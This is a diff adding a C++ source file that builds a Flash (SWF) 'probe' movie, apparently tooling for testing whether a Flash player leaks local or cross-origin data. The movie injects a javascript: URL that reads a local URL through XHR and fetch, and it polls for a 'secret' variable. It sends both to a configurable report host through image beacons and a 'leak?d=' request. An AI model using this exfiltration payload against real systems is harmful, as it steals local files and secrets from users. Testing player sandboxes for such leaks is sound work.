@@ -1,0 +1,71 @@
+#include "probe.h"
+
+using namespace swf;
+
+namespace {
+
+void load(Actions &a, const std::string &url)
+{
+    a.push({url, "_level0"});
+    a.getUrl2(geturl::LoadVariables);
+}
+
+} // namespace
+
+Bytes buildProbe(const std::string &reportBase, const std::string &localUrl)
+{
+    Movie m(200, 100, 24, Rgba{0x20, 0x20, 0x20, 0xff});
+
+    Actions start;
+    load(start, reportBase + "hello");
+    load(start, localUrl);
+    const std::string script =
+        "javascript:(function(){var u='" + localUrl + "',r='" + reportBase + "page?';"
+        "function send(k,v){var i=new Image();i.src=r+k+'='+encodeURIComponent(String(v).slice(0,200));}"
+        "try{var x=new XMLHttpRequest();x.open('GET',u);x.onload=function(){send('xhr',x.responseText)};"
+        "x.onerror=function(){send('xhr','error')};x.send();}catch(e){send('xhr','thrown')}"
+        "try{fetch(u).then(function(a){return a.text()}).then(function(t){send('fetch',t)},"
+        "function(){send('fetch','error')})}catch(e){send('fetch','thrown')}})();void 0";
+    start.push({script, ""});
+    start.getUrl2(geturl::MethodNone);
+    start.push({"polls", 0});
+    start.op(op::SetVariable);
+    m.main().doAction(start);
+    m.main().showFrame();
+
+    Actions check;
+    check.push({"secret"});
+    check.op(op::GetVariable);
+    check.op(op::Not);
+    check.ifTrue("none");
+    check.push({reportBase + "leak?d="});
+    check.push({"secret"});
+    check.op(op::GetVariable);
+    check.op(op::Add2);
+    check.push({"_level0"});
+    check.getUrl2(geturl::LoadVariables);
+    check.op(op::Stop);
+    check.jump("end");
+    check.label("none");
+    check.push({"polls", "polls"});
+    check.op(op::GetVariable);
+    check.op(op::Increment);
+    check.op(op::SetVariable);
+    check.push({"polls"});
+    check.op(op::GetVariable);
+    check.push({40});
+    check.op(op::Less2);
+    check.ifTrue("end");
+    load(check, reportBase + "done");
+    check.op(op::Stop);
+    check.label("end");
+    m.main().doAction(check);
+    m.main().showFrame();
+
+    Actions again;
+    again.gotoFrame(1);
+    again.op(op::Play);
+    m.main().doAction(again);
+    m.main().showFrame();
+    return m.finish();
+}
